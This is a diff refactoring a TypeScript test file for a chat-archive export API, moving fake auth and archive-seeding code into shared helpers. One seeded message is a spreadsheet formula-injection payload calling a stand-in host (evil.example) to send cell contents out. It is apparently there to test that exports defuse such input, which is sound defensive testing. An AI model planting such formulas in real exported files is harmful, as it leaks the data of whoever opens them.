@@ -8,64 +8,45 @@ import v8 from 'node:v8';
 import vm from 'node:vm';
 import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { openTestDatabase, type TestDatabase } from '../../test/support/database.ts';
-import { fakeAuthenticator } from '../../test/support/fake-auth.ts';
-import type { AccessEntry, AccessLog } from '../audit/access-log.types.ts';
+import { RecordingAccessLog } from '../../test/support/access-log.ts';
+import { archiveEntry, openArchiveDatabase } from '../../test/support/archive.ts';
+import type { TestDatabase } from '../../test/support/database.ts';
+import { fakeApiDeps } from '../../test/support/fake-auth.ts';
 import type { ArchiveEntry } from '../audit/archive-record.ts';
 import { ensureArchivePartitions } from '../audit/archive-partitions.ts';
-import { ArchiveWriter } from '../audit/archive-writer.ts';
-import { silentLogger } from '../log.ts';
-import type { UserStore } from '../storage/user-store.ts';
 import { buildApiApp } from './app.ts';
-import type { ApiDeps } from './deps.types.ts';
 import { exportManifestRoutes, exportRoutes } from './routes/export.ts';
 
 const OFFICER = 'test-officer-token_0123456789';
 const AUDITOR = 'test-auditor-token_0123456789';
 const ADMIN = 'test-admin-token_0123456789';
-const logged: AccessEntry[] = [];
-const accessLog: AccessLog = { record: async (e) => void logged.push(e) };
-
-function fakeApiDeps(domain: string): ApiDeps {
-  const unused = () => {
-    throw new Error('not used by this test');
-  };
-  return {
-    domain,
-    users: { create: unused, credential: unused, exists: unused, list: unused, delete: unused, setCredentials: unused } as unknown as UserStore,
-    sessions: { list: () => [], kick: () => false, kickUser: () => 0 },
-    auth: fakeAuthenticator({ [OFFICER]: 'officer', [AUDITOR]: 'auditor', [ADMIN]: 'admin' }),
-    normalizeLocalpart: (raw) => raw.toLowerCase(),
-    deriveCredentials: () => [],
-  };
-}
+const accessLog = new RecordingAccessLog();
+const logged = accessLog.entries;
 
 const BASE = Date.parse('2024-03-01T00:00:00Z');
 const at = (s: number) => new Date(BASE + s * 1000);
 const A = 'alice@example.org';
 const B = 'bob@example.org';
 const C = 'carol@example.org';
-const entry = (i: number, fromBare: string, toBare: string, body: string, extra: Partial<ArchiveEntry> = {}): ArchiveEntry => ({
-  ts: at(i), stanzaId: `m-${i}`, originId: null, clientId: null, fromJid: `${fromBare}/laptop`, toJid: toBare, fromBare, toBare,
-  type: 'chat', thread: null, body, redactedBody: null, raw: '<message/>', direction: 'internal', verdict: 'allow', reason: null,
-  matches: [], policyVersion: 2, ...extra,
-});
+const entry = (i: number, fromBare: string, toBare: string, body: string, extra: Partial<ArchiveEntry> = {}): ArchiveEntry =>
+  archiveEntry({ ts: at(i), stanzaId: `m-${i}`, fromBare, toBare, body, fromJid: `${fromBare}/laptop`, policyVersion: 2, ...extra });
 
 let db: TestDatabase;
 let app: FastifyInstance;
 beforeAll(async () => {
-  db = await openTestDatabase();
-  await ensureArchivePartitions(db.sql, at(0));
-  const writer = new ArchiveWriter(db.sql, 'api', silentLogger);
-  await Promise.all([
-    writer.append(entry(1, A, B, 'Hello Bob')),
-    writer.append(entry(2, B, A, '你好 Alice，项目进度如何？')),
-    writer.append(entry(3, C, A, '明天的炸弹演习取消了', { verdict: 'hold' })),
-    writer.append(entry(4, A, C, '=HYPERLINK("http://evil.example/?"&A1,"click")')),
-    writer.append(entry(5, B, C, '@everyone, "quoted", and\r\na second line')),
-  ]);
+  db = await openArchiveDatabase({
+    chain: 'api',
+    partitionsFrom: at(0),
+    entries: [
+      entry(1, A, B, 'Hello Bob'),
+      entry(2, B, A, '你好 Alice，项目进度如何？'),
+      entry(3, C, A, '明天的炸弹演习取消了', { verdict: 'hold' }),
+      entry(4, A, C, '=HYPERLINK("http://evil.example/?"&A1,"click")'),
+      entry(5, B, C, '@everyone, "quoted", and\r\na second line'),
+    ],
+  });
   const sql = db.sql;
-  app = await buildApiApp(fakeApiDeps('example.org'), {
+  app = await buildApiApp(fakeApiDeps('example.org', { [OFFICER]: 'officer', [AUDITOR]: 'auditor', [ADMIN]: 'admin' }), {
     resources: [
       { prefix: '/v1/export', plugin: exportRoutes({ sql, domain: 'example.org', accessLog }) },
       { prefix: '/v1/exports', plugin: exportManifestRoutes({ sql }) },
